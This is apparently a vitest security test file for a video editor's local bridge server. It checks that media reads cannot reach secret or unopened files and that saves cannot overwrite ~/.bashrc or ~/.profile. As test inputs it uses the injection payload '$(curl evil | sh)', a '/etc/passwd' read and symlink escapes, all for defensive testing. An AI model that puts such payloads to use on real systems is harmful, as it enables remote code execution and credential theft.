import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startBridge, type Bridge } from '../../../src/bridge/server'
import { dispatch } from '../../../src/main/dispatch'
import { createHandlers } from '../../../src/main/handlers'
import type { DialogHost } from '../../../src/main/handlers/dialog'
import { newProject } from '../../../src/shared/project/schema'
import { makeClip, makeImage } from '../../helpers/media'
import { json, rawRequest } from '../bridge/helpers'

/**
 * Issue 15, item 1: a client holding the bridge token (or a compromised renderer) gets bytes only of
 * files this session resolved itself, and saves only to .kindframe files the user chose.
 */
const work = mkdtempSync(join(tmpdir(), 'kf-scope-'))
const secret = join(work, 'outside', 'shadow')
const outsideClip = join(work, 'outside', 'private.mp4')
const projectDir = join(work, 'project')
const sink = () => {}
let bridge: Bridge

beforeAll(async () => {
  mkdirSync(join(work, 'outside'))
  mkdirSync(join(projectDir, 'sub'), { recursive: true })
  writeFileSync(secret, 'root:$6$secret')
  writeFileSync(outsideClip, 'private video bytes')
  writeFileSync(join(projectDir, 'beside.mp4'), 'media next to the project')
  writeFileSync(join(projectDir, 'notes.txt'), 'not media')
  writeFileSync(join(projectDir, 'sub', 'below.mp4'), 'media below the project folder')
  symlinkSync(secret, join(projectDir, 'innocent.mp4')) // a media name that leads to a secret
  writeFileSync(join(projectDir, 'series.kindframe'), JSON.stringify({ ...newProject('Scope'), clips: [] }))
  bridge = await startBridge({ port: 0, rendererDir: join(work, 'no-renderer'), importDir: join(work, 'imports') })
})
afterAll(async () => {
  await bridge?.close()
  rmSync(work, { recursive: true, force: true })
})

const invoke = async (name: string, input: unknown) => {
  const res = await rawRequest(bridge.port, {
    method: 'POST',
    path: '/api/invoke',
    headers: { 'content-type': 'application/json', 'x-kindframe-token': bridge.token },
    body: JSON.stringify({ name, input })
  })
  return json(res) as { ok?: unknown; error?: { code: string; message: string } }
}
const media = (path: string) =>
  rawRequest(bridge.port, { path: `/api/media?path=${encodeURIComponent(path)}&token=${bridge.token}` })

describe('bridge /api/media and media.url: only what main resolved itself', () => {
  it('refuses a secret file and a media file nobody opened, even with the token (403)', async () => {
    for (const path of [secret, '/etc/passwd', outsideClip]) {
      const res = await media(path)
      expect(res.status, path).toBe(403)
      expect(res.body.toString()).not.toContain('secret')
      expect(res.body.toString()).not.toContain('private video')
      const url = await invoke('media.url', { path })
      expect(url.error?.code, path).toBe('not-permitted')
    }
  })

  it('after project.open: media in the project folder, nothing below it, no non-media, no symlink escape', async () => {
    expect((await invoke('project.open', { path: join(projectDir, 'series.kindframe') })).ok).toBeTruthy()
    const beside = await media(join(projectDir, 'beside.mp4'))
    expect(beside.status).toBe(200)
    expect(beside.body.toString()).toBe('media next to the project')
    expect((await invoke('media.url', { path: join(projectDir, 'beside.mp4') })).ok).toBeTruthy()
    expect((await media(join(projectDir, 'notes.txt'))).status).toBe(403)
    expect((await media(join(projectDir, 'sub', 'below.mp4'))).status).toBe(403)
    const link = await media(join(projectDir, 'innocent.mp4'))
    expect(link.status).toBe(403)
    expect(link.body.toString()).not.toContain('secret')
    expect((await media(join(projectDir, 'gone.mp4'))).status).toBe(404)
  })

  it('a clip main imported (probed as video) may be played; a refused import is not granted', async () => {
    const clip = join(work, 'outside', 'real clip.mp4')
    copyFileSync(await makeClip({ width: 160, height: 90, durationS: 1 }), clip)
    expect((await media(clip)).status).toBe(403)
    const imported = await invoke('media.import', { projectPath: null, paths: [clip, outsideClip] })
    expect((imported.ok as { rejected: unknown[] }).rejected).toHaveLength(1)
    expect((await media(clip)).status).toBe(200)
    expect((await media(outsideClip)).status).toBe(403)
  })

  it('a picture main probed is served whatever its name; the same name unprobed is not', async () => {
    const photo = join(work, 'outside', 'maya-photo') // no extension, as a download may be named
    copyFileSync(await makeImage(16, 16, 'orange'), photo)
    expect((await media(photo)).status).toBe(403)
    expect((await invoke('media.probe', { path: photo })).ok).toBeTruthy()
    expect((await media(photo)).status).toBe(200)
    expect((await invoke('media.probe', { path: secret })).error?.code).toBe('not-media')
    expect((await media(secret)).status).toBe(403)
  })

  it('an upload may be played back', async () => {
    const up = await rawRequest(bridge.port, {
      method: 'POST',
      path: '/api/upload',
      headers: { 'x-kindframe-token': bridge.token, 'x-file-name': 'drop.mp4' },
      body: 'dropped'
    })
    const path = json(up).path as string
    expect((await media(path)).body.toString()).toBe('dropped')
  })

  it('a project whose media points at a secret does not make it readable', async () => {
    const evil = join(work, 'evil.kindframe')
    writeFileSync(evil, JSON.stringify({ ...newProject('Evil'), clips: [{ id: 'c', title: 'c', media: secret }] }))
    expect((await invoke('project.open', { path: evil })).ok).toBeTruthy()
    expect((await media(secret)).status).toBe(403) // not a media file, whoever names it
  })
})

describe('project.save: only .kindframe files the user chose', () => {
  it('refuses any other name (a "project" written as ~/.bashrc), and writes nothing', async () => {
    const bashrc = join(work, '.bashrc')
    writeFileSync(bashrc, 'alias ll="ls -l"\n')
    const res = await invoke('project.save', { path: bashrc, project: newProject('$(curl evil | sh)') })
    expect(res.error?.code).toBe('not-permitted')
    expect(res.error?.message).toContain('.kindframe')
    expect(readFileSync(bashrc, 'utf8')).toBe('alias ll="ls -l"\n')
    expect(existsSync(`${bashrc}.bak`)).toBe(false)
  })

  it('refuses a .kindframe symlink that leads to another kind of file', async () => {
    const target = join(work, 'profile')
    writeFileSync(target, 'export PATH\n')
    symlinkSync(target, join(work, 'trap.kindframe'))
    const res = await invoke('project.save', { path: join(work, 'trap.kindframe'), project: newProject('x') })
    expect(res.error?.code).toBe('not-permitted')
    expect(readFileSync(target, 'utf8')).toBe('export PATH\n')
  })

  it("on the bridge (no dialogs) a typed .kindframe path is the user's choice", async () => {
    const res = await invoke('project.save', { path: join(work, 'typed.kindframe'), project: newProject('Typed') })
    expect(res.ok).toBeTruthy()
  })

  it('with native dialogs (Electron): only a Save-dialog pick or a project opened here', async () => {
    const picked = join(work, 'picked.kindframe')
    const dialogs: DialogHost = { openFiles: async () => null, saveFile: async () => picked }
    const handlers = createHandlers({ transport: 'electron', dialogs })
    const typed = await dispatch(
      handlers,
      'project.save',
      { path: join(work, 'typed2.kindframe'), project: newProject('x') },
      sink
    )
    expect('error' in typed && typed.error.code).toBe('not-permitted')
    expect('error' in typed && typed.error.message).toContain('Browse')
    expect(existsSync(join(work, 'typed2.kindframe'))).toBe(false)
    await dispatch(handlers, 'dialog.saveFile', { title: 'Save' }, sink)
    expect('ok' in (await dispatch(handlers, 'project.save', { path: picked, project: newProject('x') }, sink))).toBe(
      true
    )
    // A project opened in this session may be saved back.
    await dispatch(handlers, 'project.open', { path: join(work, 'typed.kindframe') }, sink)
    expect(
      'ok' in
        (await dispatch(
          handlers,
          'project.save',
          { path: join(work, 'typed.kindframe'), project: newProject('y') },
          sink
        ))
    ).toBe(true)
  })
})

describe('subtitle and hand-off files: only under a name that says what they are', () => {
  it('refuses cue text written as ~/.profile or as .srt named .vtt', async () => {
    const cues = [{ id: 'a', startMs: 0, endMs: 1000, text: '$(curl evil | sh)' }]
    const profile = await invoke('subtitles.export', { path: join(work, '.profile'), format: 'srt', cues })
    expect(profile.error?.code).toBe('not-permitted')
    expect(existsSync(join(work, '.profile'))).toBe(false)
    expect((await invoke('subtitles.export', { path: join(work, 'x.vtt'), format: 'srt', cues })).error?.code).toBe(
      'not-permitted'
    )
    expect((await invoke('subtitles.export', { path: join(work, 'x.srt'), format: 'srt', cues })).ok).toBeTruthy()
  })
})
